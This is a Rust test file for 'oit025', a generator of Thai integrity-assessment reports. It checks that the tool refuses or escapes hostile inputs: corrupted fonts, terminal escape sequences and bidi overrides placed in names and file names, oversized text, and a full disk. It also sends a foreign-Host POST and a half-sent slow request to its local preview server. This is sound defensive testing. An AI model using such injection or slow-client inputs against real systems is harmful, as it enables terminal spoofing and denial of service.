    ] {
        assert!(
            err.contains(&format!("skipped {name} in fonts/ ({why}")),
            "{name}: {err}"
        );
    }
    assert!(!err.contains("licence.txt"), "{err}");
    let skipped = common::codes(dir.path());
    assert_eq!(
        skipped.iter().filter(|c| *c == "font.skipped").count(),
        6,
        "{skipped:?}"
    );
    // A Lao letter: the hint points at the skipped fonts, not at an empty folder.
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        "name: ศูนย์ປະຊາຊົນ",
    );
    let out = limited_within(dir.path(), &["check"], Duration::from_secs(60));
    let err = stderr(&out);
    assert_refused(
        &out,
        &["the report's fonts have no glyph", "was skipped or refused"],
    );
    assert!(!err.contains("put a TrueType font"), "{err}");
}

/// A project font that maps U+FEFF let it into the PDF.
#[test]
fn a_project_font_mapping_u_feff_does_not_let_it_print() {
    let dir = project();
    with_fonts(dir.path(), &[("bom.ttf", &hostile_font("bom.ttf"))]);
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        "name: \"ศูนย์\\uFEFFปฏิบัติการต่อต้านการทุจริต\"",
    );
    let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
    assert_refused(&out, &["agency.yaml:26:", "U+FEFF"]);
    assert!(!dir.path().join("output/2569/oit025-2569.pdf").exists());
}

/// A project's fonts are read once a build, by one value that `check` and typst both use: the
/// fonts it lists are those that pass.
#[test]
fn project_fonts_are_vetted_once_and_listed() {
    let dir = project();
    with_fonts(
        dir.path(),
        &[
            ("lao.ttf", &lao_font()),
            ("post3.ttf", &hostile_font("post3.ttf")),
        ],
    );
    let fonts = oit025::fonts::ProjectFonts::load(dir.path());
    let listed: Vec<_> = (fonts.files().iter())
        .map(|f| f.path.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    assert_eq!(listed, ["lao.ttf"]);
    assert!(fonts.coverage().prints('ກ'));
    assert_eq!(fonts.problems().0.len(), 1);
    assert!(fonts.problems().has_errors());
    // Sarabun's four faces and Noto Sans Lao's one.
    assert_eq!(fonts.font_set().fonts.len(), 5);
}

/// Lines of content that give `check --format json` more to print than a pipe holds.
fn many_problems(dir: &Path) {
    let controls: String = (1..=0x1f_u32)
        .filter(|c| ![9, 10, 13].contains(c))
        .map(|c| format!("\\u{c:04x}"))
        .collect();
    let list = vec![format!("\"{controls}\""); 400].join(", ");
    replace_in(
        &dir.join("content/2569/agency.yaml"),
        "  glossary: []",
        &format!("  glossary: []\n  other_abbreviations: [{list}]"),
    );
}

/// Runs `oit025 args` with `which` output (stdout or stderr) read for `bytes` bytes and then
/// closed, as `| head -c N` does; the other is kept.
fn with_closed_pipe(
    dir: &Path,
    args: &[&str],
    stdout: bool,
    bytes: usize,
) -> (Option<i32>, String) {
    use std::io::Read;
    let mut cmd = Command::new(env!("CARGO_BIN_EXE_oit025"));
    cmd.current_dir(dir).args(args);
    let (read, kept) = if stdout {
        (Stdio::piped(), Stdio::piped())
    } else {
        (Stdio::piped(), Stdio::null())
    };
    let mut child = if stdout {
        cmd.stdout(read).stderr(kept).spawn().unwrap()
    } else {
        cmd.stderr(read).stdout(kept).spawn().unwrap()
    };
    let mut head = vec![0; bytes];
    if stdout {
        child.stdout.take().unwrap().read_exact(&mut head).unwrap();
    } else {
        child.stderr.take().unwrap().read_exact(&mut head).unwrap();
    }
    // The read end is closed here, as `head` ends; what the program still prints meets a closed pipe.
    let mut err = String::new();
    if stdout {
        child
            .stderr
            .take()
            .unwrap()
            .read_to_string(&mut err)
            .unwrap();
    }
    let status = child.wait().unwrap();
    (status.code(), err)
}

/// `check --format json | head -c 10` and `build 2>&1 | head -c 5` ended in a panic ("failed
/// printing to stdout: Broken pipe", exit code 101).
#[test]
fn writing_to_a_closed_pipe_ends_quietly_with_the_usual_exit_code() {
    let dir = project();
    many_problems(dir.path());
    let (code, err) = with_closed_pipe(dir.path(), &["check", "--format", "json"], true, 10);
    assert_eq!(code, Some(1), "{err}");
    assert!(!err.contains("panicked"), "{err}");
    let dir = project();
    let (code, _) = with_closed_pipe(dir.path(), &["build"], false, 5);
    assert_eq!(code, Some(0));
    assert!(dir.path().join("output/2569/oit025-2569.pdf").exists());
}

/// Quoted lines copied raw ESC and BEL bytes to the terminal, and so did file names.
#[test]
fn control_characters_in_quoted_lines_and_file_names_are_shown_escaped() {
    let dir = project();
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        "name: ศูนย์\u{1b}[2J\u{7}ปฏิบัติการ",
    );
    with_fonts(dir.path(), &[("a\u{1b}[31mb.ttf", b"not a font")]);
    let out = oit025(dir.path(), &["check"]);
    let err = stderr(&out);
    assert_eq!(out.status.code(), Some(1), "{err}");
    assert!(!err.contains('\u{1b}') && !err.contains('\u{7}'), "{err:?}");
    assert!(err.contains("\\u{1b}[2J\\u{7}"), "{err}");
    assert!(err.contains("a\\u{1b}[31mb.ttf"), "{err}");
}

/// One request to the preview, with a 5 s limit on the answer: its status, or `None` if none came.
fn preview_status(port: u16, path: &str) -> Option<u16> {
    use std::io::{Read, Write};
    let mut stream = std::net::TcpStream::connect(("127.0.0.1", port)).ok()?;
    stream.set_read_timeout(Some(Duration::from_secs(5))).ok()?;
    write!(
        stream,
        "GET {path} HTTP/1.1\r\nHost: 127.0.0.1:{port}\r\n\r\n"
    )
    .ok()?;
    let mut raw = Vec::new();
    stream.read_to_end(&mut raw).ok()?;
    let head = String::from_utf8_lossy(&raw[..raw.len().min(64)]).into_owned();
    head.split(' ').nth(1)?.parse().ok()
}

/// A `POST` with `Content-Length: 1000000000` and no body, even one refused for its Host, blocked
/// every other request until its socket closed.
#[test]
fn the_preview_is_never_blocked_by_one_client() {
    use std::io::{Read, Write};
    let dir = tempfile::tempdir().unwrap();
    let preview = oit025::preview::Preview::start(dir.path().join("report.pdf"), 0).unwrap();
    let port = preview.port;
    let post = |host: &str| {
        let mut s = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
        write!(
            s,
            "POST /status HTTP/1.1\r\nHost: {host}\r\nContent-Length: 1000000000\r\n\r\n"
        )
        .unwrap();
        s
    };
    let foreign = post("evil.example");
    let own = post(&format!("127.0.0.1:{port}"));
    // A client that sends half a request and waits.
    let mut slow = std::net::TcpStream::connect(("127.0.0.1", port)).unwrap();
    write!(slow, "GET /status HTTP/1.1\r\nHo").unwrap();
    std::thread::sleep(Duration::from_millis(200));
    assert_eq!(preview_status(port, "/status"), Some(200));
    assert_eq!(preview_status(port, "/report.pdf"), Some(404));
    // The body too large is refused before it is read, and the slow client is let go within the
    // time limit of a request.
    let answer = |mut s: std::net::TcpStream| {
        s.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
        let mut raw = Vec::new();
        let _ = s.read_to_end(&mut raw);
        String::from_utf8_lossy(&raw).into_owned()
    };
    assert!(answer(foreign).starts_with("HTTP/1.1 403"));
    assert!(answer(own).starts_with("HTTP/1.1 413"));
    let started = std::time::Instant::now();
    let slow = answer(slow);
    assert!(started.elapsed() < Duration::from_secs(15), "{slow}");
    assert!(
        slow.is_empty() || slow.starts_with("HTTP/1.1 408"),
        "{slow}"
    );
    drop(preview);
}

/// Runs `oit025 args` in `dir` with files larger than 4 KB failing to write (a disk that fills up).
fn with_full_disk(dir: &Path, args: &[&str]) -> Output {
    Command::new("sh")
        .current_dir(dir)
        .arg("-c")
        .arg("trap '' XFSZ; ulimit -f 8; exec \"$0\" \"$@\"")
        .arg(env!("CARGO_BIN_EXE_oit025"))
        .args(args)
        .output()
        .unwrap()
}

/// A full disk during `new` left a year folder with one file, and the rerun said the folder
/// exists; `init` likewise.
#[test]
fn a_failed_new_or_init_leaves_nothing_that_stops_the_next() {
    let dir = project();
    let out = with_full_disk(dir.path(), &["new", "2570"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert!(!dir.path().join("content/2570").exists());
    let out = oit025(dir.path(), &["new", "2570"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert_eq!(
        std::fs::read_dir(dir.path().join("content/2570"))
            .unwrap()
            .count(),
        6
    );

    // A failure after some of the year's files are written.
    let dir = project();
    let out = Command::new(env!("CARGO_BIN_EXE_oit025"))
        .current_dir(dir.path())
        .args(["new", "2570"])
        .env("OIT025_FAIL_WRITE", "3")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let left: Vec<_> = std::fs::read_dir(dir.path().join("content"))
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .collect();
    assert!(
        !left
            .iter()
            .any(|n| n.contains("2570") || n.starts_with(".oit025")),
        "{left:?}"
    );
    assert!(oit025(dir.path(), &["new", "2570"]).status.success());

    let parent = tempfile::tempdir().unwrap();
    let args = ["init", "p", "--agency", "ก", "--abbreviation", "ก."];
    let out = with_full_disk(parent.path(), &args);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(std::fs::read_dir(parent.path()).unwrap().count(), 0);
    let out = oit025(parent.path(), &args);
    assert!(out.status.success(), "{}", stderr(&out));
    // Into an empty folder that exists (`init .`), the same.
    let empty = tempfile::tempdir().unwrap();
    let args = ["init", ".", "--example"];
    let out = Command::new(env!("CARGO_BIN_EXE_oit025"))
        .current_dir(empty.path())
        .args(args)
        .env("OIT025_FAIL_WRITE", "9")
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(std::fs::read_dir(empty.path()).unwrap().count(), 0);
    assert!(oit025(empty.path(), &args).status.success());
    assert!(empty.path().join("content/2569/agency.yaml").exists());
}

/// `schema --out content/2569` wrote six files into a sealed year's folder; on an edited sealed
/// year `build --emit-typst out.typ` wrote the file and said "nothing written".
#[test]
fn nothing_writes_inside_a_sealed_year_and_nothing_written_is_true() {
    let dir = project();
    let out = oit025(dir.path(), &["archive"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let year = dir.path().join("content/2569");
    let before = std::fs::read_dir(&year).unwrap().count();
    let out = oit025(dir.path(), &["schema", "--out", "content/2569"]);
    assert_refused(&out, &["sealed year", "nothing written"]);
    assert_eq!(std::fs::read_dir(&year).unwrap().count(), before);

    replace_in(&year.join("agency.yaml"), "ศูนย์ปฏิบัติการ", "ศูนย์ปฏิบัติงาน");
    let out = oit025(dir.path(), &["build", "--emit-typst", "out.typ"]);
    assert_refused(&out, &["is sealed", "nothing written"]);
    assert!(!dir.path().join("out.typ").exists());
    // Unedited, or forced, it is written.
    let out = oit025(dir.path(), &["build", "--force", "--emit-typst", "out.typ"]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(dir.path().join("out.typ").exists());
}

/// Bidi controls each run of text between the tags of `html` leaves open.
fn open_bidi_controls(html: &str) -> Vec<String> {
    let mut left = Vec::new();
    for run in html.split(['<', '>']) {
        let mut open: Vec<char> = Vec::new();
        for c in run.chars() {
            match c {
                '\u{202C}' if open.last() == Some(&'\u{202C}') => {
                    open.pop();
                }
                '\u{202C}' => {}
                '\u{202A}'..='\u{202E}' => open.push('\u{202C}'),
                '\u{2066}'..='\u{2068}' => open.push('\u{2069}'),
                '\u{2069}' => {
                    if let Some(i) = open.iter().rposition(|&o| o == '\u{2069}') {
                        open.truncate(i);
                    }
                }
                _ => {}
            }
        }
        if !open.is_empty() {
            left.push(run.chars().take(80).collect());
        }
    }
    left
}

/// A unit name starting with U+202E left the override open in the site's HTML, and the page's own
/// text after it read backwards (the PDF was right).
#[test]
fn the_sites_html_isolates_every_value() {
    let dir = project();
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        "name: \"\\u202Eศูนย์ปฏิบัติการต่อต้านการทุจริต\"",
    );
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: สำนักเลขาธิการนายกรัฐมนตรี",
        "name: \"\\u2067สำนักเลขาธิการนายกรัฐมนตรี\"",
    );
    let out = oit025(dir.path(), &["publish"]);
    assert!(out.status.success(), "{}", stderr(&out));
    let site = dir.path().join("output/site");
    for page in ["index.html", "2569/index.html"] {
        let html = std::fs::read_to_string(site.join(page)).unwrap();
        let left = open_bidi_controls(&html);
        assert!(left.is_empty(), "{page}: {left:?}");
    }
    let html = std::fs::read_to_string(site.join("2569/index.html")).unwrap();
    assert!(html.contains("\u{2068}\u{202E}ศูนย์ปฏิบัติการต่อต้านการทุจริต\u{202C}\u{2069}"));
}

/// The text fields of the bundled year, each with `word` added at its end: the values that start
/// with a Thai letter, plain or quoted. Returns how many.
fn every_text_field_with(dir: &Path, word: &str) -> usize {
    let mut fields = 0;
    for name in oit025::content::FILES {
        let path = dir.join("content/2569").join(name);
        let mut text = std::fs::read_to_string(&path).unwrap();
        let index = oit025::content::locate::FieldIndex::new(&text);
        let mut ends: Vec<usize> = (index.scalars().iter())
            .filter(|s| {
                s.value
                    .chars()
                    .next()
                    .is_some_and(|c| ('\u{0E01}'..='\u{0E5B}').contains(&c))
            })
            .filter_map(|s| {
                // The range runs to the next node: the value is at its start, quoted or not.
                let span = &text[s.range.clone()];
                if span.starts_with(&s.value) {
                    Some(s.range.start + s.value.len())
                } else if span[1..].starts_with(&s.value) && span.starts_with(['"', '\'']) {
                    Some(s.range.start + 1 + s.value.len())
                } else {
                    None
                }
            })
            .collect();
        fields += ends.len();
        ends.sort_unstable();
        for end in ends.into_iter().rev() {
            text.insert_str(end, &format!(" {word}"));
        }
        std::fs::write(&path, text).unwrap();
    }
    fields
}

/// A 10,000-letter Latin word in each of the text fields grew past 15 GB in under three minutes;
/// 2,000 letters in each took 25 s, 3.9 GB and made 3,437 pages. Each is refused at its field,
/// under a memory limit and in seconds.
#[test]
fn words_no_cell_could_hold_are_refused_at_their_field() {
    for letters in [10_000, 2_000] {
        let dir = project();
        let fields = every_text_field_with(dir.path(), &"a".repeat(letters));
        assert!(fields > 60, "{fields}");
        let started = std::time::Instant::now();
        let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
        assert!(
            started.elapsed() < Duration::from_secs(30),
            "{:?}",
            started.elapsed()
        );
        assert_refused(
            &out,
            &[
                &format!("a run of {letters} characters with no space"),
                "content/2569/agency.yaml:",
                "content/2569/measures.yaml:",
                "no cell of the report can hold it",
            ],
        );
        assert!(!dir.path().join("output/2569/oit025-2569.pdf").exists());
        let codes = common::codes(dir.path());
        let unbreakable = codes.iter().filter(|c| *c == "budget.unbreakable").count();
        assert_eq!(unbreakable, fields, "{codes:?}");
    }
}

/// Text far beyond a report's is refused at its longest values, before it is laid out.
#[test]
fn text_far_beyond_a_reports_is_refused_at_its_longest_values() {
    let dir = project();
    let words = "คำ word ".repeat(40_000);
    replace_in(
        &dir.path().join("content/2569/agency.yaml"),
        "name: ศูนย์ปฏิบัติการต่อต้านการทุจริต",
        &format!("name: ศูนย์ {words}"),
    );
    let out = limited_within(dir.path(), &["check"], Duration::from_secs(60));
    assert!(common::codes(dir.path()).contains(&"budget.text".to_string()));
    assert_refused(
        &out,
        &[
            "the report's text is too long",
            "content/2569/agency.yaml:26:",
            "units[0].name",
        ],
    );
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 16, ..ProptestConfig::default() })]

    /// Any bytes in fonts/: random, or a real font cut short or with bytes changed. `check`, and
    /// `build` of a report in Lao where `check` passes, never panic, abort, hang or exceed the
    /// memory limit; a font `check` lets through builds.
    #[test]
    fn any_font_file_ends_in_a_pdf_or_a_named_refusal(
        kind in 0..3usize,
        random in prop::collection::vec(any::<u8>(), 0..4096),
        cut in any::<prop::sample::Index>(),
        edits in prop::collection::vec((any::<prop::sample::Index>(), any::<u8>()), 1..8),
    ) {
        let font = match kind {
            0 => random,
            1 => {
                let lao = lao_font();
                lao[..cut.index(lao.len())].to_vec()
            }
            _ => {
                let mut lao = lao_font();
                for (at, byte) in edits {
                    let k = at.index(lao.len());
                    lao[k] = byte;
                }
                lao
            }
        };
        let dir = lao_project(&font);
        let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
        let err = stderr(&out);
        let shown: String = err.chars().take(3000).collect();
        prop_assert!(!err.contains("panicked") && !err.contains("memory allocation"), "{shown}");
        prop_assert!(matches!(out.status.code(), Some(0 | 1)), "{:?} {shown}", out.status);
        if out.status.code() == Some(1) {
            prop_assert!(err.contains("x.ttf") || err.contains("U+0E81"), "{shown}");
            prop_assert!(!err.contains("internal error"), "{shown}");
            prop_assert!(
                !err.contains("cannot rewrite the PDF's text layer"),
                "a font check let through: {shown}"
            );
        }
    }

    /// Long text in any field, with or without places to break, never exceeds the memory
    /// limit or hangs: a PDF or located errors.
    #[test]
    fn long_texts_end_in_a_pdf_or_a_located_error(
        file in 0..6usize,
        at in any::<prop::sample::Index>(),
        text in "[a-zA-Zก-ฮ0-9 /\\-]{1,40}",
        repeat in 1..2000usize,
    ) {
        let path = common::manifest_dir()
            .join("content/2569")
            .join(oit025::content::FILES[file]);
        let original = std::fs::read_to_string(path).unwrap();
        let mut lines: Vec<String> = original.lines().map(str::to_string).collect();
        let values: Vec<usize> = (0..lines.len())
            .filter(|&k| {
                let t = lines[k].trim_start();
                !t.starts_with('#') && (t.starts_with("- ") || t.contains(": "))
            })
            .collect();
        let k = values[at.index(values.len())];
        let line = &lines[k];
        let cut = line.find(": ").map_or_else(|| line.find("- ").unwrap() + 2, |i| i + 2);
        let value = serde_json::to_string(&text.repeat(repeat)).unwrap();
        lines[k] = format!("{}{value}", &line[..cut]);
        let dir = project();
        std::fs::write(
            dir.path().join("content/2569").join(oit025::content::FILES[file]),
            lines.join("\n") + "\n",
        )
        .unwrap();
        let out = limited_within(dir.path(), &["build"], Duration::from_secs(120));
        let err = stderr(&out);
        let shown: String = err.chars().take(3000).collect();
        prop_assert!(!err.contains("panicked") && !err.contains("memory allocation"), "{shown}");
        prop_assert!(matches!(out.status.code(), Some(0 | 1)), "{:?} {shown}", out.status);
        if out.status.code() == Some(1) {
            prop_assert!(err.contains("content/2569/"), "{shown}");
        }
    }
}

/// A font skipped is a fact of the project, not of a year: `check --all` on two years said it
/// once a year.
#[test]
fn a_skipped_font_is_said_once_for_all_years() {
    let dir = project();
    let root = dir.path();
    assert!(oit025(root, &["new", "2570"]).status.success());
    with_fonts(root, &[("notes.ttf", b"a font should go here\n")]);
    let out = oit025(root, &["check", "--all", "--format", "json"]);
    let skipped = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.contains("\"font.skipped\""))
        .count();
    assert_eq!(skipped, 1, "{}", String::from_utf8_lossy(&out.stdout));
}

/// Issue 32: typst lets a block that may not split run off the foot of a page taller than it, and
/// the text there is simply not in the PDF. Content's names are capped where they print so (see
/// `check`); a template that still does it gets an error after layout, and the good PDF of the
/// last build stays.
#[test]
fn text_laid_out_beyond_the_page_is_refused_and_the_last_pdf_kept() {
    let dir = project();
    let pdf = dir.path().join("output/2569/oit025-2569.pdf");
    assert!(oit025(dir.path(), &["build"]).status.success());
    let good = std::fs::read(&pdf).unwrap();
    let report = dir.path().join("templates/report.typ");
    let text = std::fs::read_to_string(&report).unwrap();
    let tall =
        "#block(breakable: false)[{% for _ in range(400) %}{{ agency.name }} {% endfor %}]\n";
    let text = format!("{text}\n{tall}");
    std::fs::write(&report, &text).unwrap();
    let line = text.lines().count();
    let out = oit025(dir.path(), &["build"]);
    assert_refused(
        &out,
        &["runs off the page", &format!("report.typ:{line}:1")],
    );
    // The note with the generated line shows its place, not the 12,000 characters of the loop.
    assert!(
        stderr(&out).chars().count() < 3000,
        "{}",
        stderr(&out).len()
    );
    assert_eq!(std::fs::read(&pdf).unwrap(), good);
}

/// Issue 32, "lengths that the PDF can print": every text field of every content file, given
/// 3,000 characters of Thai words (more than any name may hold), is either refused by `check`
/// (at its field, before any layout) or printed whole. Before, a rating level's name ran off the
/// foot of its page and was missing from the PDF, with no word.
#[test]
fn every_text_field_is_printed_whole_or_refused_by_check() {
    use serde_yaml::Value;
    fn strings(v: &Value, path: &mut Vec<Value>, out: &mut Vec<Vec<Value>>) {
        match v {
            Value::Mapping(m) => {
                for (k, v) in m {
                    path.push(k.clone());
                    strings(v, path, out);
                    path.pop();
                }
            }
            Value::Sequence(s) => {
                for (i, v) in s.iter().enumerate() {
                    path.push(Value::from(i as u64));
                    strings(v, path, out);
                    path.pop();
                }
            }
            Value::String(_) => out.push(path.clone()),
            _ => {}
        }
    }
    // One field of each shape: the same key in the next item of a list adds nothing.
    fn shape(path: &[Value]) -> String {
        let keys = path.iter().map(|p| p.as_str().unwrap_or("[]"));
        keys.collect::<Vec<_>>().join(".")
    }
    let words = "การประเมิน คุณธรรม ความโปร่งใส หน่วยงาน มาตรการ ดำเนินการ ";
    let long = format!("{}ZQXEND", words.repeat(3000 / words.chars().count() + 1));
    let base = common::manifest_dir().join("content/2569");
    let mut failures = Vec::new();
    let mut tried = 0;
    for name in [
        "agency",
        "analysis",
        "assessment",
        "measures",
        "recommendations",
        "scores",
    ] {
        let file = format!("{name}.yaml");
        let text = std::fs::read_to_string(base.join(&file)).unwrap();
        let doc: Value = serde_yaml::from_str(&text).unwrap();
        let mut paths = Vec::new();
        strings(&doc, &mut Vec::new(), &mut paths);
        let mut seen = std::collections::HashSet::new();
        for path in paths.into_iter().filter(|p| seen.insert(shape(p))) {
            tried += 1;
            let dir = project();
            let mut edited = doc.clone();
            let mut at = &mut edited;
            for p in &path {
                at = match p.as_u64() {
                    Some(i) => &mut at[i as usize],
                    None => &mut at[p.as_str().unwrap()],
                };
            }
            *at = Value::from(long.clone());
            let yaml = serde_yaml::to_string(&edited).unwrap();
            std::fs::write(dir.path().join("content/2569").join(&file), yaml).unwrap();
            let field = format!("{file}: {}", shape(&path));
            let build = oit025(dir.path(), &["build", "--emit-typst", "r.typ"]);
            let checked = oit025(dir.path(), &["check"]).status.success();
            if build.status.success() {
                // At least as often in the PDF as the source prints it (some names print in several
                // places; a heading repeated on each page of its table prints once more a page).
                let source = std::fs::read_to_string(dir.path().join("r.typ")).unwrap();
                let pdf = dir.path().join("output/2569/oit025-2569.pdf");
                let copied = Command::new("pdftotext")
                    .arg(&pdf)
                    .arg("-")
                    .output()
                    .unwrap();
                let copied = String::from_utf8_lossy(&copied.stdout);
                let (printed, shown) = (
                    source.matches("ZQXEND").count(),
                    copied.matches("ZQXEND").count(),
                );
                if shown < printed {
                    failures.push(format!(
                        "{field}: built, and its end is in the PDF {shown} times of {printed}"
                    ));
                }
            } else if checked {
                let err: String = stderr(&build).chars().take(600).collect();
                failures.push(format!("{field}: `check` passes and `build` fails:\n{err}"));
            }
        }
    }
    assert!(tried > 20, "only {tried} fields tried");
    assert!(failures.is_empty(), "{}", failures.join("\n"));
}
